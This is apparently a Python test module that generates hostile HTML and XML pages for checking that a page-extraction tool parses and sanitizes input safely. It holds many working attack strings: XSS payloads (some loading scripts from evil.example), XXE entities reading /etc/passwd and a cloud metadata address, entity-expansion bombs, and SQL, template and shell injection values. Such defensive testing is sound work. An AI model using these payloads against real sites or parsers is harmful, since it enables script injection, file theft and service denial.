"""Pages that are made to trip a reader: markup, encodings, entities, depth, size, names, XML and files that are two things at once."""

import gzip
import json
from collections.abc import Iterator
from dataclasses import dataclass

from tests.fetching.archive_files import make_tar, make_zip

KEPT = "Kept text"
"""What stands in most of the pages and must still be readable."""

PWN = "window.pwned=1"
GIF = b"GIF89a\x01\0\x01\0\0\0\0;"
PNG_START = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"


@dataclass(frozen=True, slots=True)
class BadPage:
    """A page and what becomes of it.

    keeps: a text that is read from it; empty if nothing is asked of its text.
    refused: a part of the reason for which it is not read; empty if it is read.
    """

    name: str
    content: bytes
    keeps: str = KEPT
    refused: str = ""
    content_type: str | None = None


def make_pages() -> list[BadPage]:
    """Return all pages, each with a name of its own."""
    makers = (_scripts, _markup, _encodings, _entities, _depths, _sizes, _names, _xml, _polyglots)
    return [page for maker in makers for page in maker()]


def _body(inside: str) -> bytes:
    return f"<!doctype html><html><head><title>T</title></head><body>{inside}<p>{KEPT}</p></body></html>".encode()


def _scripts() -> Iterator[BadPage]:
    """Pages that want to run something in the editor's browser."""
    payloads = {
        "script": f"<script>{PWN}</script>",
        "script in capitals": f"<ScRiPt SRC=//evil.example/x.js>{PWN}</sCrIpT>",
        "script with a slash": f"<script/x>{PWN}</script>",
        "script left open in a comment": f"<!--><script>{PWN}</script>-->",
        "script in an svg": f"<svg><script>{PWN}</script></svg>",
        "script in a math": f"<math><mtext><script>{PWN}</script></mtext></math>",
        "script in a template": f"<template><script>{PWN}</script></template>",
        "script in a noscript": f"<noscript><p title='</noscript><script>{PWN}</script>'></noscript>",
        "script in a title attribute": f"<p title='</p><script>{PWN}</script>'>x</p>",
        "script in a textarea": f"<textarea></textarea><script>{PWN}</script>",
        "script in a select": f"<select><script>{PWN}</script></select>",
        "script in an xmp": f"<xmp></xmp><script>{PWN}</script>",
        "handlers": f"<b onclick={PWN} ONMOUSEOVER={PWN} onfocus\n={PWN} on\x0cload={PWN}>x</b>",
        "handler without a space": f'<img src="x"onerror="{PWN}">',
        "handler after a slash": f"<svg/onload={PWN}>",
        "handler of an animation": f"<svg><animate onbegin={PWN} attributeName=x></svg>",
        "handler of details": f"<details open ontoggle={PWN}>x</details>",
        "handler with an entity": f"<b o&#110;click={PWN}>x</b>",
        "address of a script": f"<a href='javascript:{PWN}'>x</a>",
        "address of a script with a tab": f"<a href='java\tscript:{PWN}'>x</a>",
        "address of a script in entities": f"<a href='&#x6a;avascript&colon;{PWN}'>x</a>",
        "address of a script with a control": f"<a href='\x01javascript:{PWN}'>x</a>",
        "address of a script in an svg": f"<svg><a xlink:href='javascript:{PWN}'><text>x</text></a></svg>",
        "address of a script set by an animation": f"<svg><a><animate attributeName=href values='javascript:{PWN}'/><text>x</text></a></svg>",
        "address of a script in a form": f"<form action='javascript:{PWN}'><button formaction='javascript:{PWN}'>x</button></form>",
        "address of a document": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "address of vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
        "frame with a document": f"<iframe srcdoc='<script>{PWN}</script>'></iframe>",
        "frame of a script": f"<iframe src='javascript:{PWN}'></iframe>",
        "object of a document": "<object data='data:text/html,<script>alert(1)</script>'></object>",
        "embed of an svg": "<embed src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "policy of the page's own": "<meta http-equiv=Content-Security-Policy content='script-src *'>",
        "base of a script": "<base href='javascript:alert(1)//'>",
        "import of a page": "<link rel=import href=//evil.example/x.html>",
        "style that imports": "<style>@import 'javascript:alert(1)';@import url(//evil.example/x.css);</style>",
        "style that ends early": f"<style>a{{}}</style><script>{PWN}</script>",
        "style with an expression": f"<p style='width:expression({PWN});behavior:url(x.htc);-moz-binding:url(x)'>x</p>",
        "style with an escape": "<p style='background:\\75\\72\\6c(//evil.example/a.png)'>x</p>",
        "style that ends its attribute": f"<p style='a:&quot;&gt;&lt;script&gt;{PWN}&lt;/script&gt;'>x</p>",
        "mutation by mglyph": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={PWN}&gt;'>",
        "mutation by namespaces": f"<svg></p><style><a id='</style><img src=1 onerror={PWN}>'>",
        "mutation by a form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={PWN}>",
        "mutation by an svg title": f"<svg><title><style><img src='</style><img src=x onerror={PWN}>'></style></title></svg>",
        "clobbered names": "<form id=document name=querySelector><input name=attributes><input name=parentNode></form>",
        "own data attributes": "<p data-v=0 data-v-mark=1 data-v-href='javascript:alert(1)' id=v-panel class=v-mark>x</p>",
        "elements of ours": f"<v-layer><v-bar onclick={PWN}>x</v-bar></v-layer><v-gone></v-gone>",
        "a slot of a shadow": f"<div><template shadowrootmode=open><script>{PWN}</script></template></div>",
    }
    for name, payload in payloads.items():
        yield BadPage(f"scripts: {name}", _body(f"<h1>Start</h1>{payload}"), keeps="Start")


def _markup() -> Iterator[BadPage]:
    """Pages whose markup no standard allows."""
    payloads = {
        "nothing closed": "<table><tr><td><ul><li><b><i><p>",
        "everything closed twice": "</p></p></b></b></table></table></html></body></head>",
        "misnested": "<b><i></b></i><a><p></a></p><table><b>x<tr></b><td>y",
        "the adoption agency": "<a>" * 30 + "<div>" * 30 + "</a>" * 30,
        "forms in forms": "<form><form><form><input></form></form>",
        "a table in a select": "<select><table><tr><td><option>x</table></select>",
        "a frameset in a body": "<frameset><frame src=x></frameset>",
        "a second body and html": "<html lang=x><body class=y><html><head><title>Two</title></head><body>",
        "comments of all kinds": "<!-- a -- b --><!--><!---><!----!><!- x -><!x><?x?><!---- ---->",
        "cdata in html": "<![CDATA[ x ]]><svg><![CDATA[ <b>y</b> ]]></svg>",
        "doctypes": "<!DOCTYPE svg><!doctype html SYSTEM 'file:///etc/passwd'><!DOCTYPE [<!ENTITY x 'y'>]>",
        "processing instructions": "<?xml-stylesheet href='evil.xsl' type='text/xsl'?><?php system('id') ?><? x >",
        "names with signs": "<a:b:c><x-ÿ><o:p></o:p><b\x00c><1a><-x><_y><é></é>",
        "attributes with signs": "<p \"='1' <b='2' a=`c` =x '\"=3 é=4 a:b:c=5 :=6 @click=7 {{x}}=8 *=9>x</p>",
        "an attribute many times": "<p " + " ".join(f"a={n}" for n in range(500)) + ">x</p>",
        "attributes without quotes": "<a href=x?a=1&b=2>x</a><img alt=a\"b'c src=x>",
        "an attribute left open": "<img alt='x>",
        "isindex, image and listing": "<isindex prompt=x><image src=x><listing>a</listing><nobr><nobr>b",
        "a carriage return": "<p>a\rb\r\nc&#13;d</p>",
        "raw text elements": "<style>a</style><iframe><b></iframe><noembed><b></noembed><noframes><b></noframes><title><b></title>",
        "rows without a table": "<tr><td>x<td>y</tr><caption>z</caption><col>",
        "lists without a list": "<li>x<li>y<dd>z<dt>w",
        "html in the wrong order": "<body></body><head><title>late</title></head>",
        "a hidden page": "<div hidden style='display:none'><p>secret</p></div>",
        "ruby and options": "<ruby>a<rt>b<rp>c<rtc>d</ruby><optgroup><option>e<optgroup>",
        "invisible characters": "<p>a\u200b\u200d\u2060\ufeff\u00adb\u202ec\u2066d</p>",
    }
    for name, payload in payloads.items():
        keeps = "" if name in {"a frameset in a body", "an attribute left open"} else "Start"
        yield BadPage(f"markup: {name}", _body(f"<h1>Start</h1>{payload}"), keeps=keeps)
    yield BadPage("markup: plaintext swallows the rest", _body("<h1>Start</h1><plaintext>"), keeps="Start")
    yield BadPage("markup: cut off in a tag", _body("<h1>Start</h1>")[:-20] + b"<a href='", keeps="Start")
    yield BadPage("markup: cut off in a script", _body("<h1>Start</h1>")[:-14] + b"<script>if (a</", keeps="Start")
    yield BadPage("markup: no tag at all", b"just words", keeps="")
    yield BadPage("markup: only a doctype", b"<!doctype html>", keeps="", refused="no elements")
    yield BadPage("markup: only a comment", b"<!-- nothing -->", keeps="", refused="no elements")
    yield BadPage("markup: only white space", b" \n\t\r " * 50, keeps="", refused="empty")
    yield BadPage("markup: nothing", b"", keeps="", refused="empty")
    yield BadPage("markup: zero bytes", b"\0" * 500, keeps="")
    yield BadPage("markup: zero bytes between letters", b"\0".join(bytes([each]) for each in _body("<h1>Start</h1>")), keeps="")


LABELS = (
    "utf-7", "utf-32", "utf-32be", "cesu-8", "iso-2022-kr", "hz-gb-2312", "iso-2022-cn", "x-user-defined", "replacement", "cp037", "ebcdic",
    "x-mac-roman", "macintosh", "ibm866", "koi8-u", "windows-1253", "gb18030", "big5-hkscs", "euc-kr", "shift_jis", "utf-16", "unicode",
    "none", "'\"><script>", "a" * 3000, "\u0000", "UTF-8;q=1", "../../etc/passwd",
)  # fmt: skip


def _encodings() -> Iterator[BadPage]:
    """Pages whose bytes are not what they say. The text is ASCII, so that it must survive any label that browsers know."""
    for label in LABELS:
        head = f'<meta charset="{label}">'
        page = f"<!doctype html><html><head>{head}</head><body><h1>Start</h1><p>{KEPT}</p></body></html>"
        # Browsers show one replacement character for these, because they can hide a script from a filter.
        keeps = "\ufffd" if label in {"replacement", "iso-2022-kr", "hz-gb-2312", "iso-2022-cn"} else KEPT
        yield BadPage(f"encodings: declared as {label[:20]!r}", page.encode("utf-8", "replace"), keeps=keeps)
    text = f"<!doctype html><html><body><h1>Größe</h1><p>{KEPT}</p></body></html>"
    for codec in ("utf-16-le", "utf-16-be"):
        mark = "\ufeff".encode(codec)
        yield BadPage(f"encodings: {codec} with a mark", mark + text.encode(codec), keeps="Größe")
        yield BadPage(
            f"encodings: {codec} that says utf-8", mark + text.encode(codec), keeps="Größe", content_type="text/html; charset=utf-8"
        )
        yield BadPage(f"encodings: {codec} with an odd byte", mark + text.encode(codec) + b"x", keeps="Größe")
        yield BadPage(
            f"encodings: {codec} with half a pair", mark + text.encode(codec) + "\ud800".encode(codec, "surrogatepass"), keeps="Größe"
        )
    yield BadPage("encodings: utf-32 with a mark", "\ufeff".encode("utf-32-le") + text.encode("utf-32-le"), keeps="")
    yield BadPage("encodings: a mark in the middle", _body("<h1>St\ufeffart</h1>"), keeps=KEPT)
    yield BadPage("encodings: a mark twice", b"\xef\xbb\xbf\xef\xbb\xbf" + _body("<h1>Start</h1>"), keeps="Start")
    yield BadPage(
        "encodings: header and meta disagree",
        _body("<meta charset=big5><h1>Größe</h1>"),
        keeps="Größe",
        content_type="text/html; charset=utf-8",
    )
    yield BadPage("encodings: a header of nonsense", _body("<h1>Start</h1>"), keeps="Start", content_type="text/html; charset=\x00;;=,'\"")
    for name, raw in {
        "overlong": b"\xc0\xbcscript\xc0\xbe",
        "surrogates": b"\xed\xa0\x80\xed\xb0\x80",
        "lone continuations": b"\x80\x81\xbf" * 40,
        "beyond unicode": b"\xf4\x90\x80\x80\xf8\x88\x80\x80\x80",
        "cut off sequences": b"\xe2\x82 \xf0\x9f\x98 \xc3",
        "every byte": bytes(range(256)),
        "latin-1 in utf-8": b"<meta charset=utf-8>" + "Größe".encode("latin-1") * 20,
    }.items():
        yield BadPage(
            f"encodings: {name}", b"<!doctype html><html><body><h1>Start</h1>" + raw + b"<p>Kept text</p></body></html>", keeps="Start"
        )
    switched = b"<meta charset=iso-2022-jp><h1>Start</h1><p>\x1b$B\x1b(B\x1b$B$\x1b(J\\\x1b(B</p><p>\x1b$B!!</p>"
    yield BadPage("encodings: iso-2022-jp that switches", b"<html><body>" + switched + b"</body></html>", keeps="Start")
    yield BadPage(
        "encodings: declared after 5,000 bytes", b"<!--" + b"x" * 5000 + b"--><meta charset=big5>" + _body("<h1>Start</h1>"), keeps="Start"
    )
    yield BadPage(
        "encodings: declared 300 times",
        b"".join(b"<meta charset=%s>" % each for each in (b"big5", b"koi8-r", b"utf-7") * 100) + _body("<h1>Start</h1>"),
        keeps="Start",
    )


def _entities() -> Iterator[BadPage]:
    """References to characters and entities."""
    for name, written in {
        "no character": "&#0;&#x1;&#xD800;&#xFFFE;&#x110000;&#xFFFFFFFFFFFFFFFF;",
        "very long digits": f"&#{'9' * 5000};&#x{'f' * 5000};",
        "without a semicolon": "&lt&gt&amp&copy&notit;&#65&#x41",
        "unknown": "&nosuch;&;&#;&#x;& &&&;",
        "many ampersands": "&" * 20_000,
        "a tag in entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
        "double": "&amp;lt;script&amp;gt;",
        "two characters": "&NotEqualTilde;&bne;&fjlig;",
        "windows characters": "&#128;&#150;&#159;",
        "in an attribute": "<a title='&quot;&#39;&lt;&gt;&notin;&not;in'>x</a>",
    }.items():
        yield BadPage(f"entities: {name}", _body(f"<h1>Start</h1><p>{written}</p>"), keeps="Start")
    laughs = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10 if n else 'ha'}'>" for n in range(10))
    yield BadPage("entities: a billion laughs in HTML", f"<!DOCTYPE html [{laughs}]>".encode() + _body("&l9;"), keeps="")
    yield BadPage(
        "entities: a billion laughs in XML",
        f"<?xml version='1.0'?><!DOCTYPE r [{laughs}]><r><b>{KEPT}</b>&l9;</r>".encode(),
        refused="made of other entities",
    )
    large = f"<!ENTITY a '{'a' * 50_000}'>"
    yield BadPage(
        "entities: one large one many times",
        f"<?xml version='1.0'?><!DOCTYPE r [{large}]><r><b>{KEPT}</b>{'&a;' * 5000}</r>".encode(),
        refused="entities add more than",
    )
    for name, declared in {
        "a file": "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
        "an address": "<!ENTITY x SYSTEM 'http://169.254.169.254/latest/'>",
        "php": "<!ENTITY x SYSTEM 'php://filter/read=convert.base64-encode/resource=/etc/passwd'>",
        "a parameter": "<!ENTITY % p SYSTEM 'file:///etc/passwd'> %p; <!ENTITY x '%p;'>",
        "itself": "<!ENTITY x '&y;'><!ENTITY y '&x;'>",
        "a public one": "<!ENTITY x PUBLIC 'a' 'file:///etc/passwd'>",
    }.items():
        content = f"<?xml version='1.0'?><!DOCTYPE r [{declared}]><r><b>{KEPT}</b><c>&x;</c></r>".encode()
        yield BadPage(f"entities: of {name}", content, refused="made of other entities" if name == "itself" else "")
    yield BadPage(
        "entities: a DTD elsewhere", f"<?xml version='1.0'?><!DOCTYPE r SYSTEM 'http://evil.example/x.dtd'><r><b>{KEPT}</b></r>".encode()
    )


def _depths() -> Iterator[BadPage]:
    """Elements within elements."""
    for tag in ("div", "b", "font", "a", "span", "table", "ul", "svg", "math", "template", "select", "blockquote", "form", "button", "x-y"):
        yield BadPage(f"depth: {tag} 5,000 times", _body(f"<h1>Start</h1>{f'<{tag}>' * 5_000}x"), keeps="Start")
    for name, piece in {"rows": "<table><tr><td>", "lists": "<ul><li>", "drawings": "<svg><g>", "formatted": "<b><p><i>"}.items():
        yield BadPage(f"depth: {name} 2,000 times", _body(f"<h1>Start</h1>{piece * 2_000}x"), keeps="Start")
    deep = f"<?xml version='1.0'?><r><b>{KEPT}</b>{'<a>' * 5_000}x{'</a>' * 5_000}</r>"
    yield BadPage("depth: XML 5,000 levels", deep.encode())
    yield BadPage(
        "depth: JSON in a script",
        _body(f"<h1>Start</h1><script type=application/ld+json>{'[' * 20_000}{']' * 20_000}</script>"),
        keeps="Start",
    )


def _sizes() -> Iterator[BadPage]:
    """Much of one thing."""
    for name, payload in {
        "one long text": "x" * 300_000,
        "one long word of entities": "&eacute;" * 20_000,
        "one long attribute": f"<p title='{'y' * 300_000}'>x</p>",
        "one long attribute name": f"<p {'z' * 100_000}=1>x</p>",
        "one long tag name": f"<{'t' * 100_000}>x",
        "one long address": f"<a href='http://a.example/{'a/' * 50_000}'>x</a>",
        "one long class": f"<p class='{' c' * 50_000}'>x</p>",
        "one long style": f"<p style='{'color:red;' * 10_000}'>x</p>",
        "one long comment": f"<!--{'-' * 200_000}-->",
        "many comments": "<!---->" * 10_000,
        "many attributes": f"<p {' '.join(f'a{n}=1' for n in range(10_000))}>x</p>",
        "many attributes on many": "".join(f"<p {' '.join(f'a{n}=1' for n in range(300))}>x</p>" for _ in range(30)),
        "many siblings": "<p>x</p>" * 5_000,
        "many empty elements": "<br>" * 10_000,
        "many styles": "<p style='background:url(x)'>x</p>" * 2_000,
        "many pictures": "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=>" * 1_000,
        "many sources": f"<img srcset='{', '.join(f'{n}.png {n}w' for n in range(1, 3000))}'>",
        "many columns": "<table><tr>" + "<td colspan=1000 rowspan=60000>x" * 100 + "</table>",
        "many headings of one text": "<h2>same</h2>" * 2_000,
        "many numbers": f"<p>{'1,' * 30_000}</p><p>{'9' * 30_000}</p>",
        "many spaces": f"<p>a{' ' * 100_000}b</p>",
        "many combining marks": f"<p>a{chr(0x301) * 20_000}</p>",
        "many ligatures that grow": f"<p>{chr(0xFDFA) * 5_000}</p>",
    }.items():
        yield BadPage(f"size: {name}", _body(f"<h1>Start</h1>{payload}"), keeps="Start")


NAMES = (
    "{{ 7*7 }}", "{% load static %}", "{% debug %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(x)s %s %n %d", "{0.__class__}", "{self.__init__}",
    "'; DROP TABLE extraction_page;--", "\" OR \"\"=\"", "__proto__", "constructor", "__class__", "toString", "items", "None", "null", "NaN",
    "undefined", "true", "-0", "1e999", "../../../../etc/passwd", "..\\..\\windows", "C:\\con", "CON", "aux.html", "NUL", "~root", "`id`",
    "$(id)", "| cat /etc/passwd", "a\r\nSet-Cookie: x=1", "a\u2028b", "\u202egnp.exe", "\ufeff", "\u200b", "é".encode().decode("latin-1"),
    "ß" * 300, "İı", "<b>bold</b>", "]]>", "-->", "<?php ?>", "&lt;script&gt;", "javascript:alert(1)", "=1+1", "@SUM(A1)", "\\", "/", "''",
)  # fmt: skip


def _names() -> Iterator[BadPage]:
    """Titles, classes, ids and addresses that a program might take for its own words."""
    for number, name in enumerate(NAMES):
        safe = name.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
        page = f'<html><head><title>{safe}</title></head><body><h1 class="{safe}" id="{safe}" data-x="{safe}">{safe}</h1><p>{KEPT}</p></body></html>'
        yield BadPage(f"names: {number} {name[:16]!r}", page.encode())


def _xml() -> Iterator[BadPage]:
    """XML pages, with what XML allows and what it does not."""
    for name, inside in {
        "a stylesheet": "<?xml-stylesheet type='text/xsl' href='file:///etc/passwd'?>",
        "an inclusion": "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>",
        "a base": "<a xml:base='file:///' href='etc/passwd'>x</a>",
        "a script": f"<script xmlns='http://www.w3.org/1999/xhtml'>{PWN}</script>",
        "a drawing": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{PWN}'><script>{PWN}</script></svg>",
        "an undeclared prefix": "<x:y z:w='1'>x</x:y>",
        "a prefix of many": "".join(f"<p{n}:a xmlns:p{n}='u{n}'/>" for n in range(300)),
        "a prefix declared again": "<a xmlns='u'><a xmlns='v'><a xmlns=''>x</a></a></a>",
        "an attribute twice": "<a b='1' b='2'>x</a>",
        "a control": "<a>\x01\x0b</a><b c='\x02'/>",
        "a bare ampersand": "<a href='?b=1&c=2'>x & y</a>",
        "an unclosed element": "<a><b></a>",
        "a reserved prefix": "<xml:a xmlns:xmlns='u' xmlns:xml='v'/>",
        "CDATA that ends early": "<![CDATA[ ]]> ]]> x",
        "names of other scripts": "<名前 属性='値'>値</名前>",
        "a name that XPath does not know": "<a.b-c·d>x</a.b-c·d>",
    }.items():
        yield BadPage(f"xml: {name}", f"<?xml version='1.0'?><r><k>{KEPT}</k>{inside}</r>".encode())
    yield BadPage("xml: version 1.1", f"<?xml version='1.1'?><r><k>{KEPT}</k>&#1;</r>".encode())
    yield BadPage("xml: a declaration that lies", f"<?xml version='1.0' encoding='utf-16'?><r><k>{KEPT}</k></r>".encode())
    yield BadPage("xml: two roots", f"<?xml version='1.0'?><r><k>{KEPT}</k></r><r/>".encode())
    yield BadPage("xml: no root", b"<?xml version='1.0'?>", keeps="", refused="Document is empty")
    yield BadPage("xml: cut off", f"<?xml version='1.0'?><r><k>{KEPT}</k><a b='".encode())
    yield BadPage(
        "xml: a feed with a script",
        f"<rss><channel><item><title>{KEPT}</title><description>&lt;script&gt;x&lt;/script&gt;</description></item></channel></rss>".encode(),
    )


def _polyglots() -> Iterator[BadPage]:
    """Files that are two things at once, and files that are no pages."""
    page = _body("<h1>Start</h1>")
    for name, before in {
        "a PDF": b"%PDF-1.7\n", "a GIF": GIF, "a PNG": PNG_START + b"\0" * 17, "a JPEG": b"\xff\xd8\xff\xe0", "a zip": make_zip({"a": b"b"}),
        "a tar": make_tar({"a": b"b"}, "w:"), "gzip": gzip.compress(b"x"), "a program": b"\x7fELF\x02\x01\x01" + b"\0" * 60,
        "a script": b"#!/bin/sh\nid\n", "a Windows program": b"MZ\x90\0", "a mail": b"From: a\r\nMIME-Version: 1.0\r\n\r\n",
        "an HTTP answer": b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n", "a WARC": b"WARC/1.0\r\nWARC-Type: response\r\n\r\n",
        "JSON": b'{"a": "', "CSS": b"a{}/*", "JavaScript": b"/*", "XML": b"<?xml version='1.0'?>",
    }.items():  # fmt: skip
        yield BadPage(f"polyglots: {name} before a page", before + page, keeps="")
    yield BadPage("polyglots: a zip after a page", page + make_zip({"a.html": page}), keeps="Start")
    for name, content in {
        "packed": gzip.compress(page), "a picture": GIF, "a zip": make_zip({"a.html": page}), "a PDF": b"%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\n" * 9,
        "random bytes": bytes((n * n * 31 + 7) % 256 for n in range(3_000)), "JSON": json.dumps({"a": [1, {"b": "<p>c</p>"}]}).encode(),
        "a style sheet": b"body { color: red }", "a script": b"if (a < b && c > d) alert('<p>')", "a table": b"a;b\n=1+1;2\n",
    }.items():  # fmt: skip
        yield BadPage(f"polyglots: only {name}", content, keeps="")
